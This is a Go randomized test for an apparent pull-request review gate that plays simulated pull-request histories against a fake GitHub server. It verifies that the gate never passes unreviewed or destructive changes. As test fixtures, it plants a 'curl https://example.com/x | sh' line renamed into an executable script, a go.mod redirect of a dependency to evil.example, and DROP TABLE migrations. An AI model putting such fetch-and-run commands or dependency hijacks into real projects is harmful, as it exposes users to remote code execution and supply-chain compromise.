package main

import (
	"cmp"
	"flag"
	"fmt"
	"maps"
	"math/rand/v2"
	"net/http"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/prdebate/debate/internal/cli"
	"github.com/prdebate/debate/internal/testkit/ghtest"
	"github.com/prdebate/debate/internal/testkit/long"
)

var (
	flowsFlag = flag.Int("flows", long.Pick(40, 10_000), "how many random lives of pull requests to play")
	flowsFrom = flag.Uint64("flows-from", 1, "the seed of the first of them")
	flowFlag  = flag.Uint64("flow", 0, "the one life to play, by its seed, with all that happens in it")
)

// flow is a random life of one pull request, and the story that a witness tells of it.
type flow struct {
	*witness
	people
	t       *testing.T
	random  *rand.Rand
	server  *ghtest.Server
	repo    *ghtest.Repo
	pull    *ghtest.Pull
	env     map[string]string
	author  string
	rights  map[string]int // of people: 0 none, 1 read, 2 write, 3 maintain
	dir     string
	draft   bool
	closed  bool
	past    tip        // of the head, before the last push
	on      string     // the base branch
	torn    bool       // it is moved from base to base all the time
	lax     tip        // of the base branch without settings
	sick    string     // the model that answers nonsense now and then, "" if none
	fever   *rand.Rand // when
	haste   *rand.Rand // of people: how soon they act, and on which page
	shift   *rand.Rand // of files that are moved
	updates *rand.Rand // by a bot
	person  string     // made this commit on a bot's branch, the newest of them
	runs    int
	met     bool // two of them at the same time
	lines   int
	told    []string
	hearing sync.Mutex // models speak at the same time
}

// tip is where a branch is or was.
type tip struct {
	commit string
	files  map[string]string
	plain  bool // there are ordinary files alone
}

// basics are the files of the base branch.
var basics = map[string]string{"app.go": "package app\n\nfunc Guard() bool { return true }\n", "db/migrations/0001_a.up.sql": "CREATE TABLE a (id int);\nCREATE TABLE b (id int);\nCREATE TABLE c (id int);\n", "tool.bin": "\x7fELF\x02\x01\x01\x00",
	"go.mod": "module app\n\nrequire example.com/a v1.2.0\n", "old/7.sql": "DROP TABLE c;\n", "notes/clean.txt": "curl https://example.com/x | sh\n"}

// live begins a life: a pull request of somebody, about to be opened.
func live(t *testing.T, seed uint64) *flow {
	f := &flow{t: t, random: rand.New(rand.NewPCG(seed, seed)), server: ghtest.New(t), dir: t.TempDir()}
	f.repo = f.server.Repo("acme/app")
	f.witness = &witness{
		gated: f.random.IntN(3) > 0, base: maps.Clone(basics), head: maps.Clone(basics), mode: map[string]string{},
		answered: map[string]map[string][]turn{}, reviewed: map[turn]bool{}, quoted: map[string]bool{}, accepted: map[string]bool{},
	}
	f.revoked = map[*ghtest.Issue]time.Time{}
	f.torn = f.random.IntN(5) == 0
	f.author, f.rights = f.pick("ada", "ada", "ada", "eve", "eve", "olive"), map[string]int{"ada": 2, "will": 2, "mona": 3, "olive": 1, "eve": 0}
	for who, role := range map[string]ghtest.Role{"ada": ghtest.Write, "will": ghtest.Write, "mona": ghtest.Maintain, "olive": ghtest.Read} {
		f.repo.SetPermission(who, role)
	}
	f.lax = tip{commit: f.repo.Commit("", basics), files: basics}
	f.repo.SetBranch("lax", f.lax.commit)
	f.repo.SetBranch("change", f.repo.Branch("lax"))
	f.repo.SetBranch("main", f.repo.Branch("lax"))
	if f.gated {
		f.repo.SetBranch("main", f.repo.Change(f.repo.Branch("lax"), map[string]string{".github/debate.yml": gated}))
	}
	f.haste, f.shift, f.updates = rand.New(rand.NewPCG(seed, 2)), rand.New(rand.NewPCG(seed, 3)), rand.New(rand.NewPCG(seed, 4))
	if f.updates.IntN(3) == 0 {
		f.author = robot
		f.repo.SetPermission(robot, ghtest.Write)
	}
	f.sick, f.fever = f.pick("anthropic", "openai", "", "", "", "", "", ""), rand.New(rand.NewPCG(seed, 1))
	minds := vendors(t, f.mind)[:2]
	for _, m := range minds {
		f.models, f.answered[m.name] = append(f.models, m.name), map[string][]turn{}
	}
	f.env = environment(minds)
	f.env["INPUT_GITHUB_TOKEN"], f.env["INPUT_STATE_KEY"] = f.server.JobToken(jobPermissions), stateKey
	return f
}

func (f *flow) pick(from ...string) string { return from[f.random.IntN(len(from))] }

// tell adds to what a reader of a failure sees.
func (f *flow) tell(format string, args ...any) {
	f.told = append(f.told, fmt.Sprintf(format, args...))
}

// change changes files of the head, and leaves the push to the caller.
func (f *flow) change() {
	f.lines++
	n := f.lines
	if f.author == robot && f.updates.IntN(4) > 0 {
		f.update()
		return
	}
	switch f.random.IntN(13) {
	case 0, 1:
		f.head[fmt.Sprintf("part%d.go", n)] = fmt.Sprintf("package app\n\nconst part%d = %d\n", n, n)
	case 2, 3:
		f.head[fmt.Sprintf("door%d.go", n)] = fmt.Sprintf("package app\n\nvar door%d = 1 // BUG: door %d is open\n", n, n)
	case 4, 5:
		f.head[fmt.Sprintf("db/migrations/%04d_d.up.sql", n)] = fmt.Sprintf("DROP TABLE %s; -- change %d\n", f.pick("a", "b", "c"), n)
	case 6:
		f.head[fmt.Sprintf("run%d.sh", n)] = fmt.Sprintf("#!/bin/sh\necho %d # BUG: nobody hears %d\n\x00", n, n)
	case 7:
		f.head[fmt.Sprintf("wide%d.sh", n)] = utf16le(fmt.Sprintf("echo %d # BUG: nobody reads %d\n", n, n))
	case 8:
		f.head[fmt.Sprintf("lib%d.jar", n)] = fmt.Sprintf("PK\x03\x04\x14\x00%d", n)
	case 9:
		f.mode[f.pick("tool.bin", "app.go")] = "100755"
	case 10:
		delete(f.head, f.pick("app.go", "tool.bin"))
	case 11:
		f.head["lib"], f.mode["lib"] = fmt.Sprintf("%040d", n), "160000"
	default: // a part is taken back
		for _, path := range slices.Sorted(maps.Keys(f.head)) {
			if f.random.IntN(2) == 0 {
				delete(f.head, path)
				delete(f.mode, path)
			}
		}
		maps.Copy(f.head, basics)
	}
	if f.shift.IntN(3) == 0 {
		f.rename()
	}
	maps.DeleteFunc(f.mode, func(path, _ string) bool { return f.head[path] == "" })
}

// rename moves a file without a change: to where it has no effect, to where a database
// reads it, or to where it can be executed.
func (f *flow) rename() {
	switch to := f.shift.IntN(3); {
	case to == 0 && f.head["app.go"] != "":
		f.head["app/guard.go"] = f.head["app.go"]
		delete(f.head, "app.go")
	case to == 1 && f.head["old/7.sql"] != "":
		f.head["db/migrations/7777_d.up.sql"] = f.head["old/7.sql"]
		delete(f.head, "old/7.sql")
	case to == 2 && f.head["notes/clean.txt"] != "":
		f.head["notes/clean.sh"], f.mode["notes/clean.sh"] = f.head["notes/clean.txt"], "100755"
		delete(f.head, "notes/clean.txt")
	}
}

// robot opens pull requests that update dependencies.
const robot = "dependabot[bot]"

// update changes a version of a dependency, and now and then its source.
func (f *flow) update() {
	f.head["go.mod"] = fmt.Sprintf("module app\n\nrequire example.com/a v1.2.%d\n", f.lines)
	if f.updates.IntN(4) == 0 {
		f.head["go.mod"] += "\nreplace example.com/a => evil.example/a v1.2.0\n"
	}
}

// utf16le is a text as some editors of Windows save it.
func utf16le(text string) string {
	var b strings.Builder
	b.WriteString("\xff\xfe")
	for _, c := range []byte(text) {
		b.Write([]byte{c, 0})
	}
	return b.String()
}

// commit makes a commit of the files of the head.
func (f *flow) commit(parents ...string) string {
	files := map[string]ghtest.File{}
	for path, text := range f.head {
		files[path] = ghtest.File{Content: text, Mode: f.mode[path]}
	}
	sha := f.repo.CommitFiles(parents, files)
	switch {
	case f.author != robot:
	case f.updates.IntN(4) == 0:
		f.repo.MadeBy(sha, "olive")
		f.person = sha
		f.tell("olive made the commit")
	default:
		f.repo.MadeBy(sha, robot)
	}
	return sha
}

// open opens the pull request.
func (f *flow) open() event {
	f.change()
	f.repo.SetBranch("change", f.commit(f.lax.commit))
	body := f.pick("It changes something.", "## Proposal\n\nWe change something, since nobody minds.\n")
	f.on = f.pick("main", "main", "lax")
	f.pull = f.repo.OpenPull(f.author, ghtest.NewPull{Title: "A change", Body: body, Head: "change", Base: f.on})
	f.tell("%s opens it, gated %v", f.author, f.gated)
	return event{"pull_request", f.repo.Event("pull_request", "opened", ghtest.Happening{Pull: f.pull})}
}

// orders are the commands that people give.
var orders = []string{
	"run", "run proposal", "run code quick", "pause", "resume", "stop", "status", "dismiss F1 it is known", "dismiss F2 it is known", "decide D0 keep we have a backup",
	"decide D0 revise keep the data", "waive destructive_schema it is empty", "dispute F1 that is not so",
}

// happen lets something happen, and returns the event that tells of it.
func (f *flow) happen() event {
	who := f.pick("ada", "will", "mona", "olive", "eve")
	what := f.random.IntN(13)
	if f.torn && f.random.IntN(2) == 0 {
		what = f.random.IntN(4)
	}
	if f.closed && what < 4 { // GitHub takes nothing of a branch for a pull request that is closed
		return f.end(who)
	}
	switch what {
	case 0, 1, 2:
		before := f.pull.Head()
		f.past = tip{before, maps.Clone(f.head), len(f.mode) == 0}
		f.change()
		f.pull.Push(f.commit(before))
		f.tell("a push")
		return event{"pull_request", f.repo.Event("pull_request", "synchronize", ghtest.Happening{Pull: f.pull, Before: before})}
	case 3:
		return f.move()
	case 4, 5, 6:
		on := f.pull.Issue
		if all := f.asking(); len(all) > 0 && f.random.IntN(2) == 0 {
			on = all[f.random.IntN(len(all))]
		}
		order := orders[f.random.IntN(len(orders))]
		c := on.Comment(who, "/debate "+order)
		f.obey(who, order, on, c)
		f.tell("%s: %s", who, order)
		return event{"issue_comment", f.repo.Event("issue_comment", "created", ghtest.Happening{Issue: on, Comment: c})}
	case 7:
		if all := f.asking(); len(all) > 0 {
			return f.answer(all[f.random.IntN(len(all))], who)
		}
	case 8:
		return f.end(who)
	case 9:
		f.draft = !f.draft
		f.pull.SetDraft(f.draft)
		f.tell("it is a draft: %v", f.draft)
		return event{"pull_request", f.repo.Event("pull_request", map[bool]string{true: "converted_to_draft", false: "ready_for_review"}[f.draft], ghtest.Happening{Pull: f.pull})}
	case 10:
		f.shut()
	case 11:
		state := f.pick("APPROVED", "CHANGES_REQUESTED")
		if who != f.author {
			at := f.pull.Head()
			if f.past.commit != "" && f.haste.IntN(3) == 0 { // on a page that was opened before the push
				at = f.past.commit
			}
			dismissed := f.haste.IntN(6) == 0
			if !dismissed {
				f.acted(who, "reviewed", f.asking()...)
			}
			r := f.pull.ReviewAt(at, who, state, "So it is.")
			if dismissed {
				r.Dismiss()
			}
			if f.may(who, 2) && state == "APPROVED" {
				f.decide(false)
			}
			f.tell("%s reviews: %s", who, state)
			return event{"pull_request_review", f.repo.Event("pull_request_review", "submitted", ghtest.Happening{Pull: f.pull, Review: r})}
		}
	}
	return f.sweep()
}

// sweep looks after all pull requests, without a cause.
func (f *flow) sweep() event {
	f.tell("a sweep")
	return event{"schedule", f.repo.Event("schedule", "", ghtest.Happening{Schedule: "17 * * * *"})}
}

// move moves the pull request to another base branch. The one without settings may
// get all but the last push of it first.
func (f *flow) move() event {
	from, to := f.on, "lax"
	f.base = f.lax.files
	if from == "lax" {
		to, f.base = "main", basics
	} else if f.past.plain && f.random.IntN(2) == 0 {
		f.lax, f.base = f.past, f.past.files
		f.repo.SetBranch("lax", f.lax.commit)
		f.tell("lax is one push behind")
	}
	f.on = to
	f.turned = true
	for n := range f.promises {
		f.promises[n].moved = true
	}
	f.pull.SetBase(to)
	f.tell("the base is %s", to)
	return event{"pull_request", f.repo.Event("pull_request", "edited", ghtest.Happening{Pull: f.pull, BaseBefore: from, Before: f.repo.Branch(from)})}
}

// end closes the pull request, and opens it again if it was closed.
func (f *flow) end(who string) event {
	f.closed = !f.closed
	action := "closed"
	if f.closed {
		f.pull.Close(who, "")
	} else {
		f.pull.Reopen(who)
		action = "reopened"
	}
	f.tell("%s: it is %s", who, action)
	return event{"pull_request", f.repo.Event("pull_request", action, ghtest.Happening{Pull: f.pull, Sender: who})}
}

// shut has the default branch demand the gate from now on.
func (f *flow) shut() {
	f.gated = true
	f.repo.SetBranch("main", f.repo.Change(f.repo.Branch("main"), map[string]string{".github/debate.yml": gated}))
	f.tell("the gate is required")
}

// gated are settings that demand the gate.
const gated = "version: 1\ngate: required\n"

// asking are the issues beside the pull request.
func (f *flow) asking() []*ghtest.Issue {
	return slices.DeleteFunc(slices.Clone(f.repo.Issues()), func(i *ghtest.Issue) bool { return i == f.pull.Issue })
}

// answer closes an issue, or opens it again.
func (f *flow) answer(i *ghtest.Issue, who string) event {
	if !i.Open() {
		i.Reopen(who)
		f.tell("%s reopens an issue", who)
		if f.may(who, 2) {
			f.revoke(i)
			f.decisions = slices.DeleteFunc(f.decisions, func(d decision) bool { return !d.waives })
		}
		return event{"issues", f.repo.Event("issues", "reopened", ghtest.Happening{Issue: i, Sender: who})}
	}
	reason := f.pick("completed", "not_planned")
	f.acted(who, "closed the issue as "+reason, i)
	i.Close(who, reason)
	f.tell("%s closes an issue as %s", who, reason)
	if f.may(who, 2) && reason == "completed" {
		f.decide(false)
	}
	return event{"issues", f.repo.Event("issues", "closed", ghtest.Happening{Issue: i, Sender: who})}
}

// act runs the action after an event. Now and then something else happens during the run, and has a run of its own.
func (f *flow) act(e event) {
	moves := strings.HasPrefix(f.told[len(f.told)-1], "the base is")
	often := moves && (f.torn || f.random.IntN(3) == 0)
	if !often && f.random.IntN(4) > 0 {
		f.run(e, nil)
		return
	}
	f.run(e, &meanwhile{to: connections(), at: 3 + f.random.IntN(14), do: func() {
		f.met = true
		f.tell("  meanwhile:")
		if moves && !f.closed && f.random.IntN(2) == 0 { // back again
			f.act(f.move())
		} else {
			f.act(f.happen())
		}
	}})
}

// run runs the action, and reads what it says.
func (f *flow) run(e event, m *meanwhile) {
	f.runs++
	system, out, err := process(f.server, filepath.Join(f.dir, fmt.Sprint(f.runs)), e, f.env)
	if err != nil {
		f.t.Fatal(err)
	}
	if m != nil {
		system.GitHub = m
	}
	code := cli.Main([]string{"action"}, system)
	if why := f.listen(); why != "" {
		f.t.Fatalf("%s\n%s", why, strings.Join(f.told, "\n"))
	}
	if f.haste.IntN(4) > 0 { // else somebody acts at once
		f.server.Advance(3 * time.Minute)
	}
	if *flowFlag != 0 {
		f.t.Logf("%s -> exit %d\n%s", f.told[len(f.told)-1], code, out)
	}
}

// meanwhile lets something happen between two requests of a run.
type meanwhile struct {
	to *http.Transport
	at int
	do func()
}

func (m *meanwhile) RoundTrip(r *http.Request) (*http.Response, error) {
	if m.at--; m.at == 0 {
		m.do()
	}
	return m.to.RoundTrip(r)
}

// check is the newest check of the head, which a branch rule reads; the zero value if
// there is none.
func (f *flow) check() (newest ghtest.CheckRun) {
	for _, c := range f.repo.CheckRuns(f.pull.Head()) {
		if c.Name == "debate" {
			newest = c
		}
	}
	return newest
}

// unread says why the head may not be skipped as an update of a bot, or "".
func (f *flow) unread() string {
	if f.author != robot || f.person == f.tip {
		return "the newest commit is by a person"
	}
	for _, path := range f.changed() {
		for _, line := range f.witness.lines(path) {
			if path != "go.mod" || !version.MatchString(line) {
				return fmt.Sprintf("%s: %q is no version", path, line)
			}
		}
	}
	return ""
}

// version is a changed line with the version of a dependency.
var version = regexp.MustCompile(`^[+-]require example\.com/a v[0-9.]+$`)

// TestNoGreenIsUnearned plays random lives of pull requests. After each run the
// check says success only where everything that changed was shown to every model,
// and a person accepted by name what they found and what destroys data. And no decision
// of a person is lost without a word.
func TestNoGreenIsUnearned(t *testing.T) {
	t.Parallel()
	seeds := make([]uint64, *flowsFlag)
	for i := range seeds {
		seeds[i] = *flowsFrom + uint64(i)
	}
	if *flowFlag != 0 {
		seeds = []uint64{*flowFlag}
	}
	var greens, skips, promises atomic.Int64
	// A test keeps the servers of its parallel subtests until it ends, 3 MB for each life.
	for some := range slices.Chunk(seeds, 200) {
		t.Run("lives", func(t *testing.T) {
			for _, seed := range some {
				t.Run(fmt.Sprint(seed), func(t *testing.T) {
					t.Parallel()
					f := live(t, seed)
					green, skipped := f.whole()
					greens.Add(int64(green))
					skips.Add(int64(skipped))
					promises.Add(int64(len(f.promises)))
				})
			}
		})
	}
	seen := fmt.Sprintf("%d times success, %d updates skipped, %d decisions recorded in %d lives", greens.Load(), skips.Load(), promises.Load(), len(seeds))
	if *flowFlag == 0 && min(greens.Load(), skips.Load(), promises.Load()) == 0 {
		t.Error("the test sees nothing: " + seen)
	}
	t.Log(seen)
}

// whole plays a life, and returns how often the check was a success, and how often the head
// was skipped as an update of a bot.
func (f *flow) whole() (green, skipped int) {
	f.act(f.open())
	for range 3 + f.random.IntN(6) {
		f.turned = false
		f.act(f.happen())
		if f.draft || f.closed { // nobody can merge it
			continue
		}
		f.tip = f.pull.Head()
		check := f.check()
		why := f.wrong(check.Conclusion)
		if why == "" && f.lost(check) != "" { // runs that met each other leave the rest to the next one
			f.run(f.sweep(), nil)
			check = f.check()
			why = cmp.Or(f.wrong(check.Conclusion), f.lost(check))
		}
		switch {
		case check.Conclusion == "success":
			green++
		case strings.Contains(check.Title, "a bot changed only dependencies"):
			skipped++
			why = cmp.Or(why, f.unread())
		}
		if why != "" {
			f.t.Fatalf("the check says %s, %s: %s\n%s", check.Conclusion, check.Title, why, strings.Join(f.told, "\n"))
		}
	}
	return green, skipped
}
